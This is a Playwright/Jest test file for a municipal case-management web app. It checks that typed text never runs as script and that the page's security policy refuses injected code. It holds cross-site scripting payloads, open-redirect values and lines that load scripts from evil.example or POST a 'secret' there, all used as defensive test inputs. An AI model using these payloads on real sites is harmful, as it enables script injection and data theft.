import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from './chromium.js';
import { type DemoServer, startDemoServer } from './demo-server.js';
import { DESK, PHONE, peopleOf, tellRefusals } from './people.js';

/** Whatever of this came to life would set `planted`, on whatever page. */
const SCRIPTS = [
  '<script>planted=1</script>',
  '<img src=x onerror=planted=1>',
  '"><svg onload=planted=1>',
  'javascript:planted=1',
  '{{planted=1}}',
].join(' ');
const TEXT = `路燈不亮 ${SCRIPTS}`;
const ADDRESS = encodeURIComponent('"><img src=x onerror=planted=1>');
const PLACES = [
  ...['/', '/nowhere', '/contractor#x', '/set-password#x', '/sign-in?problem=x', '/account'],
  ...[`/find?q=${ADDRESS}`, `/case/${ADDRESS}`, `/${ADDRESS}`, `/sign-in?problem=${ADDRESS}#${ADDRESS}`],
];
const ROLES = [
  ...[
    'agent',
    'maintenance',
    'supervisor',
    'clerk',
    'manager',
    'maintenance.chief',
    'inspector',
    'commission',
  ],
  ...['auditor', 'admin'],
];

describe('What others typed', () => {
  let server: DemoServer;
  let browser: Browser;
  let people: ReturnType<typeof peopleOf>;
  let agent: Page;
  let officer: Page;
  let supervisor: Page;
  let number: string;

  beforeAll(async () => {
    [server, browser] = await Promise.all([startDemoServer(), launchBrowser()]);
    people = peopleOf(server, browser);
    agent = await people.signIn('agent', DESK);
    officer = await people.signIn('maintenance', PHONE);
    supervisor = await people.signIn('supervisor', DESK);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  async function ask<T>(page: Page, path: string, data?: object): Promise<T> {
    const answer = data
      ? await page.request.post(server.url + path, { data })
      : await page.request.get(server.url + path);
    expect([path, answer.status(), answer.ok() ? '' : await answer.text()]).toEqual([
      path,
      answer.ok() ? answer.status() : 200,
      '',
    ]);
    return (await answer.json()) as T;
  }

  const planted = (page: Page): Promise<boolean> => page.evaluate(() => 'planted' in globalThis);

  it('is kept as it was typed, in every field of a call, a note and a report', async () => {
    const { cases } = await ask<{ cases: { number: string }[] }>(agent, '/api/contacts', {
      channel: 'phone',
      outcome: 'recorded',
      language: 'zh-TW',
      callReference: SCRIPTS.slice(0, 100),
      citizen: {
        name: '<b/onclick=planted=1>王</b>',
        phone: '0900000123',
        address: '<svg/onload=planted=1>',
      },
      cases: [
        { category: 'RD01', district: '64000050', place: TEXT, description: TEXT, agency: 'maintenance' },
      ],
    });
    number = cases[0]?.number as string;
    const page = await ask<{ version: number }>(supervisor, `/api/cases/${number}`);
    await ask(supervisor, `/api/cases/${number}/actions/note`, { version: page.version, text: TEXT });
    for (const [action, body] of [
      ['acknowledge', {}],
      ['report', { outcome: 'cannot_act', text: TEXT, legalBasis: TEXT }],
    ] as const) {
      const { workOrder } = await ask<{ workOrder: { id: string; version: number } }>(
        supervisor,
        `/api/cases/${number}`,
      );
      const path = `/api/work-orders/${workOrder.id}/actions/${action}`;
      await ask(officer, path, { version: workOrder.version, ...body });
    }
    expect(number).toMatch(/^D\d{8}-\d{5}-\d$/);
  });

  it('is text on the case’s page, on a desk and on a phone', async () => {
    for (const page of [agent, officer, supervisor]) {
      await page.goto(`${server.url}/case/${number}`);
      await page.locator('main').getByText(TEXT).first().waitFor();
      expect(await page.locator('main').getByText('onerror=planted').count()).toBeGreaterThan(1);
      expect(await planted(page)).toBe(false);
    }
  });

  it.each(ROLES)(
    'starts nothing on any page of %s, and no page asks for what its policy refuses',
    async username => {
      const page = await people.signIn(username, DESK);
      const own = await page.getByRole('navigation').first().getByRole('link').all();
      const addresses = await Promise.all(own.map(async link => (await link.getAttribute('href')) ?? ''));
      expect(addresses.length).toBeGreaterThan(0);
      for (const place of [...addresses, `/case/${number}`, ...(username === 'agent' ? PLACES : [])]) {
        await page.goto(server.url + place);
        await page.getByRole('heading').first().waitFor();
        expect([place, await planted(page)]).toEqual([place, false]);
      }
      await page.context().close();
      expect(people.complaints).toEqual([]);
    },
  );

  it('starts nothing in a dialog, and none breaks the policy, also where a phone by Apple asks for a style', async () => {
    const phone = await browser.newContext({ viewport: PHONE, locale: 'zh-TW' });
    const refusals: string[] = [];
    await tellRefusals(phone, refusal => refusals.push(refusal));
    await phone.addInitScript(() => {
      const { navigator } = globalThis as unknown as { navigator: object };
      Object.defineProperty(navigator, 'platform', { value: 'iPhone' });
      Object.defineProperty(navigator, 'userAgentData', { value: undefined });
    });
    const page = await phone.newPage();
    await page.goto(server.url);
    await people.fillIn(page, 'supervisor');
    await page.goto(`${server.url}/case/${number}`);
    const actions = page.locator('main').getByRole('button');
    await actions.first().waitFor();
    await page.getByRole('button', { name: '解除管制', exact: true }).first().click();
    await page.getByRole('dialog').waitFor();
    const scrolling = await page.evaluate(() => {
      const { document } = globalThis as unknown as {
        document: { styleSheets: ArrayLike<{ cssRules: ArrayLike<{ cssText: string }> }> };
      };
      return Array.from(document.styleSheets).filter(({ cssRules }) =>
        Array.from(cssRules).some(({ cssText }) => /\* { overscroll-behavior: contain/.test(cssText)),
      ).length;
    });
    expect(scrolling).toBe(1);
    expect(await planted(page)).toBe(false);
    expect(refusals).toEqual([]);

    await phone.close();
  });

  it('sends nobody elsewhere: an address of another site is followed from no page', async () => {
    const page = await people.signIn('agent', DESK, '/?next=//evil.example/&redirect=https://evil.example');
    expect(new URL(page.url()).origin).toBe(server.url);
    await page.goto(`${server.url}//evil.example/%2e%2e`);
    expect(new URL(page.url()).origin).toBe(server.url);
    await page.context().close();
  });
});

describe('A page', () => {
  let server: DemoServer;
  let browser: Browser;

  beforeAll(async () => {
    [server, browser] = await Promise.all([startDemoServer(), launchBrowser()]);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  it.each([
    [
      'a script',
      "const it = document.createElement('script'); it.textContent = 'planted=1'; document.body.append(it)",
    ],
    [
      'a script from elsewhere',
      "const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it)",
    ],
    ['markup', "document.body.innerHTML = '<img src=x onerror=planted=1>'"],
    [
      'a style',
      "const it = document.createElement('style'); it.textContent = '*{color:red}'; document.body.append(it)",
    ],
    ['a style of an element', "document.body.setAttribute('style', 'color:red')"],
    [
      'a frame',
      "const it = document.createElement('iframe'); it.src = 'https://evil.example/'; document.body.append(it)",
    ],
    [
      'a picture from elsewhere',
      "const it = document.createElement('img'); it.src = 'https://evil.example/x.png'; document.body.append(it)",
    ],
    [
      'a message to elsewhere',
      "fetch('https://evil.example/', { method: 'POST', body: 'secret' }).catch(() => 0)",
    ],
    [
      'a form to elsewhere',
      "const it = document.createElement('form'); it.action = 'https://evil.example/'; document.body.append(it); it.submit()",
    ],
    [
      'another base',
      "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it)",
    ],
  ])('into which %s was smuggled all the same refuses it, and tells', async (_what, code) => {
    const context = await browser.newContext();
    const told = new Promise<string>(tell => void tellRefusals(context, tell));
    const page = await context.newPage();
    await page.goto(server.url);
    await page.getByLabel('帳號').waitFor();
    await page.evaluate(code).catch(error => expect(String(error)).toContain('Trusted'));
    expect(await told).toMatch(/^(script|style|require|img|frame|connect|form|base|default)-/);
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
    await context.close();
  });
});
